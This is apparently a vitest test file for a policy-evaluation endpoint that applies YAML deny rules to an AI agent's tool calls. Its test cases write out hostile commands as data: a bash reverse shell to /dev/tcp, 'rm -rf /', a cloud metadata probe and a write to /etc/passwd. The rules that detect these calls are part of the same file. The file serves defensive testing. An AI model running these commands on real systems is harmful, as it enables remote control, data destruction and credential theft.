import { afterAll, beforeAll, expect, test } from 'vitest'
import { type ServerApart, serverApart, type TestTenant } from '../server.ts'
import { expectWholeTrail } from '../whole-trail.ts'

// The playground of the older console: POST /api/v1/bundles/evaluate (console §11, acceptance 50).

let server: ServerApart
let acme: TestTenant

const yaml = `apiVersion: edictum/v1
kind: ContractBundle
metadata: {name: presets}
defaults: {mode: enforce}
contracts:
  - id: no-env
    type: pre
    tool: read_file
    when: {args.path: {contains: ".env"}}
    then: {effect: deny, message: "Denied: {args.path}", tags: [secrets]}
  - id: no-destruction
    type: pre
    tool: bash
    when: {args.command: {matches_any: ['rm\\s+-rf', 'mkfs']}}
    then: {effect: deny, message: Destructive.}
  - id: no-reverse-shell
    type: pre
    tool: exec
    when: {args.command: {matches: '/dev/tcp/'}}
    then: {effect: deny, message: Reverse shell.}
  - id: deploy-needs-sre
    type: pre
    tool: deploy
    when:
      all:
        - environment: {equals: production}
        - principal.role: {equals: developer}
    then: {effect: deny, message: Not you.}
  - id: metadata-probe
    type: pre
    tool: http_get
    when: {args.url: {contains: 169.254.169.254}}
    then: {effect: deny, message: Metadata.}
  - id: mcp-asks
    type: pre
    tool: "mcp_*"
    when: {tool.name: {exists: true}}
    then: {effect: approve, message: Ask.}
  - id: files
    type: sandbox
    tools: [write_file]
    within: [/workspace]
    outside: deny
    message: Outside.
  - id: commands
    type: sandbox
    tools: [exec]
    allows: {commands: [ls, git, bash]}
    outside: deny
    message: Command.
  - id: watched
    type: pre
    mode: observe
    tool: read_file
    when: {args.path: {exists: true}}
    then: {effect: deny, message: watched}
`

beforeAll(async () => {
  server = await serverApart()
  acme = await server.newTenant('acme')
})

afterAll(async () => {
  await server.stop(expectWholeTrail)
})

const evaluate = (body: object) =>
  server.call('POST', '/api/v1/bundles/evaluate', { cookie: acme.cookie, body: { yaml_content: yaml, ...body } })

test.each([
  ['read .env', { tool_name: 'read_file', tool_args: { path: '/app/.env' } }, 'deny', 'no-env'],
  ['destructive bash', { tool_name: 'bash', tool_args: { command: 'rm -rf /' } }, 'deny', 'no-destruction'],
  [
    'production deploy as developer',
    { tool_name: 'deploy', tool_args: {}, principal: { role: 'developer' } },
    'deny',
    'deploy-needs-sre',
  ],
  ['normal read', { tool_name: 'read_file', tool_args: { path: 'README.md' } }, 'allow', null],
  [
    'reverse shell',
    { tool_name: 'exec', tool_args: { command: 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1' } },
    'deny',
    'no-reverse-shell',
  ],
  [
    'cloud metadata probe',
    { tool_name: 'http_get', tool_args: { url: 'http://169.254.169.254/latest' } },
    'deny',
    'metadata-probe',
  ],
  ['file outside sandbox', { tool_name: 'write_file', tool_args: { path: '/etc/passwd' } }, 'deny', 'files'],
  ['MCP call needing approval', { tool_name: 'mcp_send', tool_args: {} }, 'deny', 'mcp-asks'],
  ['allowed exec', { tool_name: 'exec', tool_args: { command: 'ls -la' } }, 'allow', null],
])('preset: %s', async (_name, call, verdict, deciding) => {
  const answer = await evaluate(call)
  expect(answer.status, answer.text).toBe(200)
  expect(answer.body).toMatchObject({
    verdict,
    mode: 'enforce',
    deciding_contract: deciding,
    policy_version: expect.stringMatching(/^[0-9a-f]{12}$/) as string,
    evaluation_time_ms: expect.any(Number) as number,
  })
})

test('every rule about the tool is listed, and matched is false for those that fired', async () => {
  const { body } = await evaluate({ tool_name: 'read_file', tool_args: { path: '.env' } })
  expect((body as { contracts_evaluated: unknown }).contracts_evaluated).toEqual([
    {
      id: 'no-env',
      type: 'precondition',
      matched: false,
      effect: 'warn',
      message: 'Denied: .env',
      observed: false,
      tags: ['secrets'],
    },
    {
      id: 'watched',
      type: 'precondition',
      matched: false,
      effect: 'warn',
      message: 'watched',
      observed: true,
      tags: [],
    },
  ])
})

test('a document that cannot be read answers 422 with a sentence', async () => {
  const answer = await evaluate({ yaml_content: 'kind: [', tool_name: 'a' })
  expect(answer.status).toBe(422)
  expect(answer.body).toEqual({ detail: expect.stringMatching(/line \d/i) as string })
  expect((await evaluate({ tool_name: '' })).status).toBe(422)
  const anonymous = await server.call('POST', '/api/v1/bundles/evaluate', { body: {} })
  expect(anonymous.status).toBe(401)
})

const about = (field: string, msg: string) => [{ loc: ['body', field], msg }]

test.each([
  [
    'a document of more than a mebibyte',
    { yaml_content: `# ${'x'.repeat(1_048_576)}`, tool_name: 'a' },
    about('yaml_content', 'must NOT have more than 1048576 characters'),
  ],
  [
    'two documents in one',
    { yaml_content: `${yaml}\n---\n${yaml}`, tool_name: 'a' },
    expect.stringMatching(/^Line \d+: Cannot parse this as one ruleset: the file holds several YAML documents\.$/),
  ],
  [
    'a document larger than a ruleset may be',
    { yaml_content: `${yaml}\n# ${'x'.repeat(524_288)}`, tool_name: 'a' },
    expect.stringMatching(/^Line \d+: .*524[ ,_]?288|^Line \d+: .*512 KiB/),
  ],
  [
    'a tool name of 256 characters',
    { tool_name: 'x'.repeat(256) },
    about('tool_name', 'must NOT have more than 255 characters'),
  ],
  [
    'an environment of 65 characters',
    { tool_name: 'a', environment: 'x'.repeat(65) },
    about('environment', 'must be letters, digits, dot, underscore and hyphen, 64 at most'),
  ],
  ['a list of arguments', { tool_name: 'a', tool_args: [] }, about('tool_args', 'must be object')],
])('%s is refused by its name', async (_what, body, detail) => {
  const answer = await evaluate(body)
  expect({ status: answer.status, body: answer.body }).toEqual({ status: 422, body: { detail } })
})

test('a document as large as a ruleset may be is tried, and whoever tries a small one meanwhile is answered', async () => {
  const padded = `${yaml}\n# ${'x'.repeat(524_288 - yaml.length - 3)}`
  expect(padded).toHaveLength(524_288)
  const call = { tool_name: 'read_file', tool_args: { path: '/app/.env' } }
  for (const answer of await Promise.all([evaluate({ yaml_content: padded, ...call }), evaluate(call)])) {
    expect({ status: answer.status, body: answer.body }).toMatchObject({ status: 200, body: { verdict: 'deny' } })
  }
})
